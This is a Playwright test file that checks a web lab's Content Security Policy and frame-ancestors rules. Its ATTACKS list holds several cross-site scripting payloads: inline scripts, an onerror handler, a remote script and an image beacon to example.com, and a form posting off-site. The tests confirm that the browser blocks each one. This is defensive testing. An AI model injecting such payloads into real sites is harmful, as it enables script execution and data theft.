"""What a browser is told to refuse: a whole visit needs none of it, and an attack all of it."""

from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import FilePayload, Page, Request, expect

from components import words
from components.words import PLAYER
from server.headers import EMBED_IN
from tests.browser.lab import (
    READY_MILLISECONDS,
    button,
    go_to,
    open_lab,
    panel,
    player,
    type_number,
    wait_until_at_rest,
    wait_until_playing,
    wait_until_ready,
)
from tools.free_port import LOOPBACK
from tools.serve import Server, serving

WORDS = words.DATA
LISTEN = """
window.violations = [];
addEventListener('securitypolicyviolation', (event) => {
    violations.push(event.effectiveDirective + ' ' + event.blockedURI);
});
"""


# Each tries to run a script of a stranger's, in a way of its own.
ATTACKS = {
    "script-src-elem inline": "<script>window.pwned = 1</script>",
    "script-src-attr inline": "<img src=nothing onerror='window.pwned = 1'>",
    "frame-src": "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "script-src-elem https://example.com/": "<script src='https://example.com/x.js'></script>",
    "img-src https://example.com/": "<img src='https://example.com/?told=everything'>",
    "form-action https://example.com/": "<form action='https://example.com/'></form>",
}
INSERT = """(html) => {
    const place = document.createElement('div');
    document.body.append(place);
    // As a parser would put it there: what innerHTML makes of a script never runs anyway.
    place.append(document.createRange().createContextualFragment(html));
    place.querySelector('form')?.submit();
}"""


def violations(page: Page) -> list[str]:
    """What the page was refused since it was loaded: directive and address."""
    found: list[str] = page.evaluate("window.violations")
    return found


def walk_the_lab(page: Page) -> None:
    """Play, look inside a step, change the run, save a picture, edit rows, take them, upload."""
    button(page, PLAYER["play"]).click()
    wait_until_playing(page)
    button(page, PLAYER["pause"]).click()
    page.get_by_role("button", name=PLAYER["inside"], exact=True).click()
    expect(player(page).locator("[data-phase][aria-current=step]")).to_be_visible()
    wait_until_at_rest(page)
    type_number(page, words.EXACT_RATE, 0.02)
    go_to(page, 7)
    wait_until_at_rest(page)  # what the player reports then would close a dialog
    panel(page, "fit").hover()
    with page.expect_download() as picture:
        panel(page, "fit").get_by_label("Download plot as a PNG").click()
    assert Path(picture.value.path()).read_bytes().startswith(b"\x89PNG")
    page.get_by_role("button", name=WORDS["edit"]).click()
    expect(page.get_by_test_id("stDataFrame")).to_be_visible(timeout=READY_MILLISECONDS)
    with page.expect_download() as table:
        page.get_by_role("button", name=WORDS["download"]).click()
    assert Path(table.value.path()).read_text("utf-8").startswith("x,y")
    page.keyboard.press("Escape")


def upload(page: Page) -> None:
    """Bring a file, and see what was understood of it."""
    file: FilePayload = {
        "name": "grades.csv",
        "mimeType": "text/csv",
        "buffer": b"hours,grade\n1,10\n2,12\n4,15\n",
    }
    page.locator("input[type=file]").set_input_files(file)
    wait_until_ready(page)
    page.get_by_text(WORDS["understood"].split("{rows}")[1].strip()).click()
    expect(page.get_by_test_id("stDataFrame")).to_be_visible(timeout=READY_MILLISECONDS)


@pytest.mark.slow
def test_a_whole_visit_is_refused_nothing_and_asks_only_this_server(
    page: Page, server: Server
) -> None:
    asked: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)

    page.on("request", note)
    page.on("websocket", lambda socket: asked.append(socket.url))
    page.add_init_script(LISTEN)
    open_lab(page, server.url)
    walk_the_lab(page)
    assert violations(page) == []
    page.goto(f"{server.url}/?dataset=own")
    page.locator("input[type=file]").wait_for(state="attached", timeout=READY_MILLISECONDS)
    upload(page)
    assert violations(page) == []
    page.goto(f"{server.url}/modules?backward=true")
    for drawn in (".lab-cells > *", ".lab-graph svg"):
        page.locator(drawn).first.wait_for(timeout=READY_MILLISECONDS)
    assert violations(page) == []
    page.goto(f"{server.url}/mistakes")
    wait_until_ready(page)
    assert violations(page) == []
    places = {urlsplit(url)[:2] for url in asked}
    here = urlsplit(server.url).netloc
    assert {(scheme, place) for scheme, place in places if scheme not in ("data", "blob")} == {
        ("http", here),
        ("ws", here),
    }


@pytest.mark.problems_expected  # each attack is an error in the console
def test_scripts_pictures_and_forms_that_a_stranger_wrote_are_refused(
    page: Page, server: Server
) -> None:
    page.add_init_script(LISTEN)
    open_lab(page, server.url)
    for html in ATTACKS.values():
        page.evaluate(INSERT, html)
    page.wait_for_function("count => violations.length >= count", arg=len(ATTACKS) - 1)
    refused = violations(page)
    for expected in ATTACKS:
        if expected != "frame-src":  # its page is made here, and its script refused in it
            assert any(found.startswith(expected) for found in refused), (expected, refused)
    assert page.evaluate("window.pwned") is None


@contextmanager
def another_site(folder: Path) -> Iterator[str]:
    """A site that serves the folder: its origin."""
    handler = partial(QuietHandler, directory=str(folder))
    with ThreadingHTTPServer((LOOPBACK, 0), handler) as site:
        Thread(target=site.serve_forever, daemon=True).start()
        yield f"http://{LOOPBACK}:{site.server_port}"
        site.shutdown()


def embed(folder: Path, address: str) -> None:
    """The site's page shows the address in a frame."""
    (folder / "favicon.ico").touch()
    (folder / "index.html").write_text(f'<iframe src="{address}" width=1400 height=900></iframe>')


class QuietHandler(SimpleHTTPRequestHandler):
    def log_message(self, *_: object) -> None:
        pass


@pytest.mark.problems_expected  # that it is refused is an error in the console
def test_another_site_cannot_show_the_lab_in_a_frame(
    page: Page, server: Server, tmp_path: Path
) -> None:
    embed(tmp_path, server.url)
    with (
        another_site(tmp_path) as site,
        page.expect_event(
            "console", lambda said: "frame-ancestors" in said.text, timeout=READY_MILLISECONDS
        ),
    ):
        page.goto(site)
    assert page.frame_locator("iframe").locator("#root").count() == 0


@pytest.mark.slow
def test_a_site_that_is_configured_can(
    page: Page, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with another_site(tmp_path) as site:
        monkeypatch.setenv(EMBED_IN, f"https://moodle.example.org {site}")
        with serving() as server:
            embed(tmp_path, server.url)
            page.goto(site)
            lab = page.frame_locator("iframe").get_by_test_id("player")
            expect(lab).to_have_attribute("data-ready", "true", timeout=READY_MILLISECONDS)
            page.goto("about:blank")  # before the server ends, which the page would notice
